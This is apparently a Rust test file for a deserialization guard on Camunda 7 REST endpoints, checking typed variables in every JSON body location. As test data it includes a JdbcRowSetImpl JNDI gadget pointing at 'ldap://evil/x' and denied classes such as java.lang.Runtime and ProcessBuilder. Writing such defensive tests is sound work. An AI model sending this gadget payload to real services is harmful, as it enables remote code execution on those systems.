//! Typed variables in every JSON body location Camunda 7 reads them from
//! (camunda7.md table 2.2), under the test policy and the bundled one.

use super::*;
use common::policy::camunda_guard;

/// A JSON body that carries typed variables.
struct Location {
    /// The endpoint, and the member that holds the variables.
    endpoint: &'static str,
    /// The body, with `@V` where a `VariableValueDto` goes and `@T` where a
    /// `TriggerVariableValueDto` goes.
    template: &'static str,
    /// The JSON Pointer of the variable in the body.
    pointer: &'static str,
}

/// camunda7.md table 2.2: every JSON body that carries typed variables.
const LOCATIONS: &[Location] = &[
    Location {
        endpoint: "POST /process-definition/key/{key}/start: variables",
        template: r#"{"businessKey":"b-1","variables":{"order":@V},"withVariablesInReturn":true}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /process-definition/key/{key}/start: startInstructions[].variables",
        template: r#"{"variables":{"amount":{"value":5,"type":"Integer"}},"startInstructions":[{"type":"startBeforeActivity","activityId":"approve","variables":{"order":@T}}],"skipCustomListeners":true}"#,
        pointer: "/startInstructions/0/variables/order",
    },
    Location {
        endpoint: "POST /process-definition/{id}/submit-form: variables",
        template: r#"{"variables":{"approved":{"value":true,"type":"Boolean"},"order":@V},"businessKey":"b"}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /process-instance/{id}/variables: modifications",
        template: r#"{"modifications":{"note":{"value":"x","type":"String"},"order":@V},"deletions":["old"]}"#,
        pointer: "/modifications/order",
    },
    Location {
        endpoint: "PUT /process-instance/{id}/variables/{name}: whole body",
        template: "@V",
        pointer: "",
    },
    Location {
        endpoint: "PUT /task/{id}/localVariables/{name}: whole body with blanks",
        template: " \n@V\n ",
        pointer: "",
    },
    Location {
        endpoint: "POST /process-instance/variables-async: variables",
        template: r#"{"processInstanceIds":["p1"],"processInstanceQuery":{"processDefinitionKey":"p"},"variables":{"order":@V}}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /process-instance/message-async: variables",
        template: r#"{"messageName":"m","processInstanceIds":["p1"],"variables":{"order":@V}}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /process-instance/{id}/modification: instructions[].variables",
        template: r#"{"skipCustomListeners":false,"skipIoMappings":true,"instructions":[{"type":"cancel","activityInstanceId":"a:1"},{"type":"startBeforeActivity","activityId":"approve","variables":{"order":@T}}],"annotation":"fix"}"#,
        pointer: "/instructions/1/variables/order",
    },
    Location {
        endpoint: "POST /message: correlationKeys",
        template: r#"{"messageName":"m","correlationKeys":{"order":@V},"localCorrelationKeys":{"k":{"value":"v","type":"String"}},"processVariables":{},"all":true}"#,
        pointer: "/correlationKeys/order",
    },
    Location {
        endpoint: "POST /message: localCorrelationKeys",
        template: r#"{"messageName":"m","correlationKeys":{"k":{"value":"v","type":"String"}},"localCorrelationKeys":{"order":@V}}"#,
        pointer: "/localCorrelationKeys/order",
    },
    Location {
        endpoint: "POST /message: processVariables",
        template: r#"{"messageName":"m","businessKey":"b","processVariables":{"order":@V},"resultEnabled":true}"#,
        pointer: "/processVariables/order",
    },
    Location {
        endpoint: "POST /message: processVariablesLocal",
        template: r#"{"messageName":"m","processVariables":{"k":{"value":1,"type":"Long"}},"processVariablesLocal":{"order":@V}}"#,
        pointer: "/processVariablesLocal/order",
    },
    Location {
        endpoint: "POST /message: processVariablesToTriggeredScope",
        template: r#"{"messageName":"m","processVariablesToTriggeredScope":{"order":@V},"variablesInResultEnabled":true}"#,
        pointer: "/processVariablesToTriggeredScope/order",
    },
    Location {
        endpoint: "POST /signal: variables",
        template: r#"{"name":"s","executionId":null,"variables":{"order":@V},"tenantId":"t"}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /condition: variables",
        template: r#"{"variables":{"order":@V},"businessKey":"b"}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /task/{id}/complete: variables",
        template: r#"{"variables":{"order":@V},"withVariablesInReturn":true}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /task/{id}/bpmnError: variables",
        template: r#"{"errorCode":"e","errorMessage":"m","variables":{"order":@V}}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /external-task/{id}/complete: localVariables",
        template: r#"{"workerId":"w","variables":{"a":{"value":1,"type":"Integer"}},"localVariables":{"order":@V}}"#,
        pointer: "/localVariables/order",
    },
    Location {
        endpoint: "POST /external-task/{id}/failure: localVariables",
        template: r#"{"workerId":"w","errorMessage":"e","retries":1,"retryTimeout":1000,"variables":{},"localVariables":{"order":@V}}"#,
        pointer: "/localVariables/order",
    },
    Location {
        endpoint: "POST /decision-definition/key/{key}/evaluate: variables",
        template: r#"{"variables":{"order":@V}}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /migration/validate: variables",
        template: r#"{"sourceProcessDefinitionId":"a:1","targetProcessDefinitionId":"a:2","instructions":[],"variables":{"order":@V}}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /migration/execute: migrationPlan.variables",
        template: r#"{"migrationPlan":{"sourceProcessDefinitionId":"a:1","targetProcessDefinitionId":"a:2","instructions":[{"sourceActivityIds":["t"],"targetActivityIds":["t"],"updateEventTrigger":false}],"variables":{"order":@V}},"processInstanceIds":["p1"],"skipCustomListeners":true}"#,
        pointer: "/migrationPlan/variables/order",
    },
    Location {
        endpoint: "POST /case-definition/key/{key}/create (CMMN): variables",
        template: r#"{"businessKey":"b","variables":{"order":@V}}"#,
        pointer: "/variables/order",
    },
    Location {
        endpoint: "POST /case-execution/{id}/complete (CMMN trigger): variables",
        template: r#"{"variables":{"order":@T},"deletions":["x"]}"#,
        pointer: "/variables/order",
    },
];

/// Typed variables in every location, for one guard; the classes named
/// must be allowed by both the test policy and the Camunda policy.
fn location_cases() -> Vec<Case> {
    let allowed = [
        "java.util.HashMap<java.lang.String,java.lang.Integer>",
        "java.util.ArrayList",
        "java.lang.String",
    ];
    let denied = [
        "com.evil.X",
        "com.sun.rowset.JdbcRowSetImpl",
        "java.util.ArrayList<com.evil.X>",
        "[Lcom.evil.X;",
    ];
    let gadget = js(
        r#"{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x","autoCommit":true}"#,
    );
    let mut cases = Vec::new();
    for Location {
        endpoint,
        template,
        pointer: at,
    } in LOCATIONS
    {
        let mut add = |what: String, var: String, expected: String| {
            let body = fill(template, &[("@V", &var), ("@T", &trigger(&var))]);
            cases.push(case(format!("{endpoint}: {what}"), body, expected));
        };
        for class in allowed {
            add(format!("allowed {class}"), object_var(class), OK.to_owned());
        }
        for class in denied {
            add(
                format!("denied {class}"),
                object_var(class),
                code_at(CLASS, &format!("{at}/valueInfo/objectTypeName")),
            );
        }
        add(
            "gadget @class in the carried JSON".to_owned(),
            typed(&gadget, "Object", "java.util.HashMap", "application/json"),
            code_at(CLASS, &format!("{at}/value/@class")),
        );
        add(
            "Java serialization".to_owned(),
            typed(
                &js(JAVA_STREAM),
                "Object",
                "java.util.HashMap",
                "application/x-java-serialized-object",
            ),
            code_at(JAVA, &format!("{at}/valueInfo/serializationDataFormat")),
        );
        add(
            "Object without objectTypeName".to_owned(),
            r#"{"value":"{}","type":"Object","valueInfo":{"serializationDataFormat":"application/json"}}"#
                .to_owned(),
            code_at(INVALID, &format!("{at}/valueInfo")),
        );
        add(
            "plain String variable".to_owned(),
            r#"{"value":"com.evil.X","type":"String"}"#.to_owned(),
            OK.to_owned(),
        );
    }
    cases
}

#[test]
fn typed_variables_in_every_body_location_test_policy() {
    check(&test_guard(), &location_cases());
}

#[test]
fn typed_variables_in_every_body_location_camunda_policy() {
    let guard = camunda_guard();
    check(&guard, &location_cases());
    // Classes the Camunda policy does not list, although the test policy does.
    let mut cases = Vec::new();
    for Location {
        endpoint,
        template,
        pointer: at,
    } in LOCATIONS
    {
        for class in [
            "java.util.List<java.lang.String>",
            "com.acme.Order",
            "java.lang.Runtime",
        ] {
            let var = object_var(class);
            cases.push(case(
                format!("{endpoint}: not in the Camunda allow list: {class}"),
                fill(template, &[("@V", &var), ("@T", &trigger(&var))]),
                code_at(CLASS, &format!("{at}/valueInfo/objectTypeName")),
            ));
        }
    }
    check(&guard, &cases);
}

#[test]
fn the_message_names_the_denied_inner_class() {
    let guard = test_guard();
    for (class, denied) in [
        (
            "java.util.HashMap<java.lang.String, java.util.List<com.evil.X>>",
            "com.evil.X",
        ),
        (
            "java.util.HashMap<com.evil.Key,java.lang.String>",
            "com.evil.Key",
        ),
        (
            "java.util.List<java.util.List<java.util.List<[Lcom.evil.Deep;>>>",
            "com.evil.Deep",
        ),
        (
            "java.util.Optional<java.lang.ProcessBuilder>",
            "java.lang.ProcessBuilder",
        ),
    ] {
        let v = rejected(
            &guard,
            &in_variables(&object_var(class)),
            CLASS,
            "/variables/x/valueInfo/objectTypeName",
        );
        assert!(
            v.message().contains(&format!("`{denied}`")),
            "{class}: the message should name {denied}: {v}"
        );
    }
}
